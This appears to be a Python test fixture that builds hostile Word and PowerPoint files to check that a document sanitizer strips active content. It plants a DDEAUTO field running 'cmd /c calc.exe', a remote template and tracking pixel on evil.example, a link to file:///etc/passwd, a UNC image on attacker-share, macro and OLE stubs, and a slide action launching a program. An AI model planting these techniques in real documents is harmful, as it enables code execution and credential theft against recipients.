"""Reference .docx/.pptx files carrying every kind of active content, crafted with zipfile and lxml.

Built from the example's clean references, so only the planted content can be the difference.
Each planted item names a marker (a host, share or file name) that must appear in no product.
"""

from __future__ import annotations

import io
import posixpath
import zipfile
from pathlib import Path

from lxml import etree

REFERENCES = Path(__file__).resolve().parent.parent / "templates" / "reference"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MARKERS = ("evil.example", "attacker-share", "etc/passwd", "vbaProject", "oleObject", "activeX", "customUI",
           "calc.exe", "EvilMacro")
_W_HEADER = (f'<w:hdr xmlns:w="{W}" xmlns:r="{OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml" '
             'xmlns:o="urn:schemas-microsoft-com:office:office" '
             'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
             'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
             'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
             '<w:p><w:hyperlink r:id="rHL"><w:r><w:t>Intranet</w:t></w:r></w:hyperlink></w:p>'
             '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="10" cy="10"/><wp:docPr id="1" name="p"/><a:graphic>'
             '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
             '<pic:blipFill><a:blip r:link="rIMG"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
             '</wp:inline></w:drawing></w:r></w:p>'
             '<w:p><w:r><w:object><v:shape id="o1"/><o:OLEObject Type="Embed" ProgID="Package" r:id="rOLE"/>'
             '</w:object></w:r></w:p>'
             '<w:p><w:fldSimple w:instr=\'DDEAUTO "cmd" "/c calc.exe"\'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
             '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE '
             '"http://evil.example/pixel.png" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
             '</w:hdr>')


class Package:
    """A zip's parts, editable: add parts, relationships and content types."""

    def __init__(self, path: Path) -> None:
        with zipfile.ZipFile(path) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}

    def xml(self, name: str) -> etree._Element:
        return etree.fromstring(self.parts[name])

    def put_xml(self, name: str, root: etree._Element) -> None:
        self.parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)

    def relate(self, source: str, rel_id: str, kind: str, target: str, external: bool = False,
               namespace: str = OFFICE) -> None:
        folder, base = posixpath.split(source)
        rels = posixpath.join(folder, "_rels", f"{base}.rels") if source else "_rels/.rels"
        root = self.xml(rels) if rels in self.parts else etree.Element(f"{{{RELS}}}Relationships", nsmap={None: RELS})
        element = etree.SubElement(root, f"{{{RELS}}}Relationship", Id=rel_id, Type=f"{namespace}/{kind}",
                                   Target=target)
        if external:
            element.set("TargetMode", "External")
        self.put_xml(rels, root)

    def override(self, part: str, content_type: str) -> None:
        root = self.xml("[Content_Types].xml")
        for element in root.findall(f"{{{CT}}}Override"):
            if element.get("PartName") == f"/{part}":
                root.remove(element)
        etree.SubElement(root, f"{{{CT}}}Override", PartName=f"/{part}", ContentType=content_type)
        self.put_xml("[Content_Types].xml", root)

    def data(self) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return buffer.getvalue()


def _common(package: Package, main: str) -> None:
    package.parts[posixpath.join(posixpath.dirname(main), "vbaProject.bin")] = b"\xcc\x61 EvilMacro"
    package.relate(main, "rVBA", "vbaProject", "vbaProject.bin",
                   namespace="http://schemas.microsoft.com/office/2006/relationships")
    package.override(posixpath.join(posixpath.dirname(main), "vbaProject.bin"), "application/vnd.ms-office.vbaProject")
    package.parts["customUI/customUI.xml"] = (b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
                                              b'onLoad="EvilMacro"/>')
    package.relate("", "rUI", "ui/extensibility", "customUI/customUI.xml",
                   namespace="http://schemas.microsoft.com/office/2006/relationships")
    package.parts["word/activeX/activeX1.bin" if main.startswith("word") else "ppt/activeX/activeX1.bin"] = b"activeX"


def hostile_docx() -> bytes:
    package = Package(REFERENCES / "defence.docx")
    main = "word/document.xml"
    _common(package, main)
    package.override(main, "application/vnd.ms-word.document.macroEnabled.main+xml")
    package.relate("word/settings.xml", "rTPL", "attachedTemplate", "http://evil.example/template.dotm", external=True)
    settings = package.xml("word/settings.xml")
    template = etree.Element(f"{{{W}}}attachedTemplate")
    template.set(f"{{{OFFICE}}}id", "rTPL")
    settings.insert(0, template)
    package.put_xml("word/settings.xml", settings)
    package.parts["word/header1.xml"] = _W_HEADER.encode()
    package.override("word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")
    package.relate(main, "rHDR", "header", "header1.xml")
    package.relate(main, "rAX", "control", "activeX/activeX1.bin")
    package.relate("word/header1.xml", "rHL", "hyperlink", "file:///etc/passwd", external=True)
    package.relate("word/header1.xml", "rIMG", "image", "\\\\attacker-share\\logo.png", external=True)
    package.parts["word/embeddings/oleObject1.bin"] = b"oleObject payload"
    package.relate("word/header1.xml", "rOLE", "oleObject", "embeddings/oleObject1.bin")
    package.override("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
    document = package.xml(main)
    sect = document.find(f"{{{W}}}body/{{{W}}}sectPr")
    reference = etree.Element(f"{{{W}}}headerReference")
    reference.set(f"{{{W}}}type", "default")
    reference.set(f"{{{OFFICE}}}id", "rHDR")
    sect.insert(0, reference)
    package.put_xml(main, document)
    return package.data()


_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"


def _pptx_shapes(tree: etree._Element) -> None:
    """A linked picture, a shape whose click opens a web address and one that starts a program, an OLE frame."""
    nv = (f'<p:nvSpPr xmlns:p="{_P}" xmlns:a="{_A}" xmlns:r="{OFFICE}"><p:cNvPr id="90" name="link">'
          '<a:hlinkClick r:id="rHL"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>')
    shape = etree.fromstring(f'<p:sp xmlns:p="{_P}" xmlns:a="{_A}">{nv}<p:spPr/></p:sp>')
    run = etree.fromstring(f'<p:sp xmlns:p="{_P}" xmlns:a="{_A}" xmlns:r="{OFFICE}"><p:nvSpPr><p:cNvPr id="91" '
                           'name="run"><a:hlinkClick r:id="" action="ppaction://program?file=calc.exe"/></p:cNvPr>'
                           '<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>')
    picture = etree.fromstring(f'<p:pic xmlns:p="{_P}" xmlns:a="{_A}" xmlns:r="{OFFICE}"><p:nvPicPr>'
                               '<p:cNvPr id="92" name="img"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
                               '<a:blip r:link="rIMG"/></p:blipFill><p:spPr/></p:pic>')
    frame = etree.fromstring(f'<p:graphicFrame xmlns:p="{_P}" xmlns:a="{_A}" xmlns:r="{OFFICE}"><p:nvGraphicFramePr>'
                             '<p:cNvPr id="93" name="ole"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>'
                             '<p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic><a:graphicData '
                             'uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj r:id="rOLE" '
                             'progId="Package"/></a:graphicData></a:graphic></p:graphicFrame>')
    for element in (shape, run, picture, frame):
        tree.append(element)


def hostile_pptx() -> bytes:
    package = Package(REFERENCES / "defence.pptx")
    main = "ppt/presentation.xml"
    _common(package, main)
    package.override(main, "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
    for part in ("ppt/slideMasters/slideMaster1.xml", "ppt/slideLayouts/slideLayout1.xml"):
        root = package.xml(part)
        _pptx_shapes(root.find(f"{{{_P}}}cSld/{{{_P}}}spTree"))
        package.put_xml(part, root)
        package.relate(part, "rHL", "hyperlink", "http://evil.example/track", external=True)
        package.relate(part, "rIMG", "image", "file://attacker-share/logo.png", external=True)
        package.relate(part, "rOLE", "oleObject", "../embeddings/oleObject1.bin")
    package.parts["ppt/embeddings/oleObject1.bin"] = b"oleObject payload"
    package.override("ppt/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
    package.relate("ppt/slideMasters/slideMaster1.xml", "rAX", "control", "../activeX/activeX1.bin")
    return package.data()
